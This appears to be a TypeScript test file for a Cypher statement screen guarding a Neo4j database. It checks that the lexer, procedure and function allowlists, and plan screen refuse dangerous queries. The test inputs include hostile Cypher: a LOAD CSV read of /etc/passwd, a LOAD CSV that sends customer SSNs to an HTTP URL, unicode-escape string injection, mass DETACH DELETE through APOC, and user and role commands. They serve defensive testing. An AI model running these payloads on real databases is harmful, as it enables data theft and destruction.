/**
 * The token screen of the statement policy, without a database: the lexer agrees with Neo4j on
 * strings, comments and quoted names (the cases were checked against Neo4j 5.26.19), unicode
 * escapes and unknown characters make a statement unclassifiable, and each rule refuses what it
 * should (and lets ordinary reads and writes through). The allowlists: globs, config extension,
 * and NEVER winning over config.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { lex, LexError } from '../../daemon/db/cypher-lexer.js';
import { NamePolicy } from '../../daemon/db/name-policy.js';
import { walkPlan, screenPlan } from '../../daemon/db/plan-screen.js';
import { screenStatement, type ScreenPurpose } from '../../daemon/db/statement-screen.js';

const names = new NamePolicy();
const screen = (s: string, purpose: ScreenPurpose = 'write', params: Record<string, unknown> = {}, n = names) => screenStatement(s, params, { purpose, names: n });
const rule = (s: string, purpose: ScreenPurpose = 'write', params: Record<string, unknown> = {}) => screen(s, purpose, params)?.rule;

describe('the Cypher lexer', () => {
  it('keeps strings, comments and quoted names whole, with their escapes', () => {
    const t = lex(`MATCH (n) WHERE n.x = 'it\\'s // not a comment' AND n.y = "a \\" CALL x.y()" /* CALL a.b() */ RETURN n.\`we\`\`ird\` // CALL c.d()\nAS z`);
    assert.deepEqual(t.filter((x) => x.kind === 'string').map((x) => x.value), ["it's // not a comment", 'a " CALL x.y()']);
    assert.deepEqual(t.filter((x) => x.kind === 'quoted').map((x) => x.value), ['we`ird']);
    assert.ok(!t.some((x) => x.kind === 'word' && x.value === 'CALL'), 'nothing inside strings or comments is a keyword');
    assert.equal(t.at(-1)!.value, 'z');
  });

  it('ends // comments at every Java line terminator, so code after U+2028 or U+0085 is seen', () => {
    for (const nl of ['\n', '\r', '\u0085', '\u2028', '\u2029']) {
      const t = lex(`RETURN 1 AS x // c${nl}CALL apoc.periodic.iterate('a', 'b', {})`);
      assert.ok(t.some((x) => x.value === 'CALL'), JSON.stringify(nl));
    }
  });

  it('refuses unicode escapes anywhere (Neo4j decodes them before it lexes: \\u0027 ends a string)', () => {
    for (const s of [String.raw`RETURN 'a\u0027, apoc.cypher.runFirstColumnSingle("MATCH (n) DETACH DELETE n", {}) AS x //'`, String.raw`CALL db\u002elabels()`, String.raw`RETURN 1 // \u000a CALL x.y()`, String.raw`RETURN 'x\\u0041'`]) {
      assert.throws(() => lex(s), LexError, s);
    }
  });

  it('refuses characters it cannot classify, and unterminated strings, comments and names', () => {
    for (const s of ['RETURN\u200b1', 'RETURN 1 AS x\\', "RETURN 'open", 'RETURN 1 /* open', 'RETURN `open']) assert.throws(() => lex(s), LexError, JSON.stringify(s));
    assert.doesNotThrow(() => lex('RETURN\u00a01 AS x, \u3000 2 AS Straße'));
  });

  it('tells parameters from dynamic-label dollars', () => {
    const t = lex('MATCH (n:$($l)) SET n:$any($x) RETURN $`odd name`, $0');
    assert.deepEqual(t.filter((x) => x.kind === 'param' || x.kind === 'dollar').map((x) => `${x.kind}:${x.value}`), ['dollar:$', 'param:l', 'param:any', 'param:x', 'param:odd name', 'param:0']);
  });
});

describe('the statement screen', () => {
  it('lets ordinary reads and writes through', () => {
    for (const s of [
      "MATCH (n:Person {name: $name}) RETURN n.name AS name, count(*) AS c",
      "CREATE (f:Fix {note: $note, at: datetime()}) RETURN f.note AS note",
      'MATCH (a)-[r:KNOWS]->(b) WHERE a.since < date.truncate("year", date()) SET r.old = true',
      'MATCH (n:X) DETACH DELETE n',
      'MATCH (n) FOREACH (x IN [n] | SET x.seen = true)',
      'UNWIND $rows AS row MERGE (p:Person {id: row.id}) ON CREATE SET p += row',
      'CALL { MATCH (n) RETURN n LIMIT 1 } RETURN n',
      'MATCH (n) CALL (n) { SET n.v = 1 } RETURN count(*)',
      'CALL db.labels() YIELD label RETURN label',
      'RETURN apoc.coll.sum([1, 2]) AS s, apoc.text.join(["a"], ",") AS j, apoc.convert.toJson({}) AS js',
      'MATCH (use) RETURN use, use.call AS call, {load: 1, csv: 2} AS m',
      'MATCH (t:Tx) WITH collect(t) AS transactions UNWIND transactions AS t RETURN t',
      'CYPHER 5 MATCH (n) RETURN n LIMIT 1;',
    ]) {
      assert.equal(screen(s)?.reason, undefined, s);
    }
    assert.equal(screen('SHOW INDEXES YIELD name RETURN name', 'read'), undefined);
    assert.equal(screen('SHOW RANGE INDEXES', 'read'), undefined);
    assert.equal(screen('SHOW UNIQUE CONSTRAINTS', 'read'), undefined);
  });

  it('refuses procedures that are not allowed, whatever the spelling', () => {
    for (const s of [
      "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {batchSize: 10})",
      "CALL apoc.cypher.doIt('MATCH (n) DETACH DELETE n', {})",
      "call APOC.do.when(true, 'MATCH (n) DETACH DELETE n', '', {})",
      'MATCH (n:Victim) WITH collect(n) AS ns CALL apoc.nodes.delete(ns, 10) YIELD value RETURN value',
      "CALL apoc.trigger.remove('x')",
      'CALL `apoc`.`periodic`.`iterate`("a", "b", {})',
      'CALL apoc . periodic /* hi */ . iterate("a", "b", {})',
      "CALL dbms.listConfig()",
      "CALL tx.setMetaData({app: 'heimdall'})",
      'CALL apoc.export.json.all(null, {stream: true})',
      "CALL apoc.load.json('http://x')",
      'CALL apoc.create.node(["X"], {})',
    ]) {
      assert.equal(rule(s, 'read'), 'procedure', s);
      assert.equal(rule(s, 'write'), 'procedure', s);
    }
    assert.equal(screen('CALL `db.labels`()')?.rule, 'procedure', 'a quoted part with a dot is ambiguous');
  });

  it('refuses namespaced functions that are not allowed', () => {
    assert.equal(rule("RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) DETACH DELETE n RETURN 1', {}) AS x"), 'function');
    assert.equal(rule("RETURN `apoc`.cypher.runFirstColumnMany('x', {}) AS x", 'read'), 'function');
    assert.equal(rule("RETURN apoc.xml.parse('<x/>') AS x", 'read'), 'function');
    assert.equal(rule('RETURN custom.myFn() AS x', 'read'), 'function');
    assert.equal(rule('RETURN `weird.fn`(1) AS x', 'read'), 'function');
  });

  it('refuses LOAD CSV, IN TRANSACTIONS, USE, commands, prefixes and more than one statement', () => {
    assert.equal(rule("LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l", 'read'), 'load-csv');
    assert.equal(rule("MATCH (c:Customer) LOAD CSV FROM 'http://127.0.0.1:1/?ssn=' + c.ssn AS l RETURN l", 'read'), 'load-csv');
    assert.equal(rule('MATCH (n) CALL { WITH n DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS'), 'in-transactions');
    assert.equal(rule('MATCH (n) CALL (n) { DETACH DELETE n } IN 4 CONCURRENT TRANSACTIONS'), 'in-transactions');
    assert.equal(rule('USE system MATCH (n) RETURN n', 'read'), 'use');
    assert.equal(rule('CALL { USE other MATCH (n) RETURN n } RETURN n', 'read'), 'use');
    for (const s of ['SHOW SETTINGS', 'SHOW TRANSACTIONS', 'SHOW USERS', 'SHOW PROCEDURES', 'SHOW DATABASES', 'TERMINATE TRANSACTIONS "x"', 'CREATE USER eve SET PASSWORD "x"', 'DROP DATABASE neo4j', 'GRANT ROLE admin TO eve', 'ALTER USER neo4j SET PASSWORD "x"', 'STOP DATABASE neo4j']) {
      assert.equal(rule(s, 'read'), 'command', s);
    }
    assert.equal(rule('SHOW INDEXES'), 'command', 'a write carries no command');
    assert.equal(rule('EXPLAIN MATCH (n) RETURN n', 'read'), 'prefix');
    assert.equal(rule('PROFILE MATCH (n) DETACH DELETE n'), 'prefix');
    assert.equal(rule('MATCH (n) RETURN n; MATCH (m) DETACH DELETE m', 'read'), 'multiple-statements');
  });

  it('refuses writes that name Heimdall state or hide labels, in names, strings or parameters', () => {
    for (const s of ['MATCH (s:HeimdallOutboxSeq) SET s.value = 5', 'MATCH (a:HeimdallAudit) FOREACH (x IN [a] | DETACH DELETE x)', 'MATCH (n:`HeimdallOutbox`) DELETE n', "MATCH (n) WHERE 'HeimdallOutboxFailed' IN labels(n) DELETE n", "MATCH (n) WHERE n.name = 'heimdall_outbox' SET n.x = 1"]) {
      assert.equal(rule(s), 'heimdall-state', s);
    }
    assert.equal(rule('MATCH (n) WHERE $l IN labels(n) SET n.value = 5', 'write', { l: 'HeimdallOutboxSeq' }), 'heimdall-state');
    assert.equal(rule('MATCH (n) WHERE any(l IN $ls WHERE l IN labels(n)) DELETE n', 'write', { ls: ['Person', 'HeimdallAudit'] }), 'heimdall-state');
    assert.equal(rule("MATCH (n:$('Heimdall' + 'OutboxSeq')) SET n.value = 5"), 'dynamic-label');
    assert.equal(rule('MATCH (n) SET n:$any($l)'), 'dynamic-label');
    assert.equal(rule('MATCH (a:HeimdallAudit) RETURN count(a) AS c', 'read'), undefined, 'reading Heimdall state is allowed');
  });

  it('refuses what it cannot split', () => {
    assert.equal(rule(String.raw`RETURN 'a\u0027' AS x`, 'read'), 'unclassifiable');
    assert.equal(rule('', 'read'), 'unclassifiable');
  });
});

describe('the allowlists', () => {
  it('extend by config with globs, and NEVER wins over config', () => {
    const n = new NamePolicy({ allowProcedures: ['apoc.create.*', 'apoc.periodic.iterate', 'apoc.*'], allowFunctions: ['my.fn.*'] });
    assert.deepEqual(n.procedure('apoc.create.node'), { allowed: true });
    assert.equal(n.procedure('apoc.periodic.iterate').allowed, false);
    assert.equal(n.procedure('apoc.cypher.doIt').allowed, false, 'apoc.* does not open what NEVER holds');
    assert.equal(n.procedure('APOC.LOAD.JSON').allowed, false, 'case does not matter');
    assert.deepEqual(n.function('my.fn.a'), { allowed: true });
    assert.ok(n.ignored.some((x) => x.includes('apoc.periodic.iterate')));
    assert.equal(screen('CALL apoc.create.node(["X"], {}) YIELD node RETURN node', 'write', {}, n), undefined);
    assert.equal(names.procedure('db.schema.visualization').allowed, true);
    assert.equal(names.function('DATE.TRUNCATE').allowed, true);
  });
});

describe('the plan screen', () => {
  const plan = (op: string, details: string, children: unknown[] = []) => ({ operatorType: `${op}@neo4j`, arguments: { Details: details }, children });
  const check = (p: unknown, purpose: ScreenPurpose = 'read') => screenPlan(walkPlan(p as never), { purpose, names, database: 'neo4j' });
  it('names procedures, functions, file readers, batch committers, commands and other databases', () => {
    assert.equal(check(plan('ProduceResults', 'label', [plan('ProcedureCall', 'db.labels() :: (label :: STRING)')])), undefined);
    assert.equal(check(plan('ProcedureCall', 'apoc.periodic.iterate($autostring_0, $autostring_1, {}) :: (batches :: INTEGER)'))?.name, 'apoc.periodic.iterate');
    assert.equal(check(plan('Projection', 'apoc.cypher.runFirstColumnSingle($autostring_0, {}) AS x'))?.name, 'apoc.cypher.runFirstColumnSingle');
    assert.equal(check(plan('Filter', 'apoc.coll.sum($autolist_0) > $autoint_1')), undefined);
    assert.equal(check(plan('LoadCSV', 'l'))?.rule, 'plan-operator');
    assert.equal(check(plan('TransactionForeach', 'IN TRANSACTIONS OF $autoint_0 ROWS ON ERROR FAIL'), 'write')?.rule, 'plan-operator');
    assert.equal(check(plan('ShowSettings', 'allSettings, defaultColumns'))?.name, 'ShowSettings');
    assert.equal(check(plan('ShowIndexes', 'allIndexes, defaultColumns')), undefined);
    assert.equal(check(plan('ShowIndexes', 'allIndexes, defaultColumns'), 'write')?.rule, 'plan-operator');
    assert.equal(check({ operatorType: 'AdministrationCommand@system' })?.rule, 'plan-database');
    assert.equal(check(plan('ProcedureCall', '…'))?.rule, 'plan-procedure');
  });
});
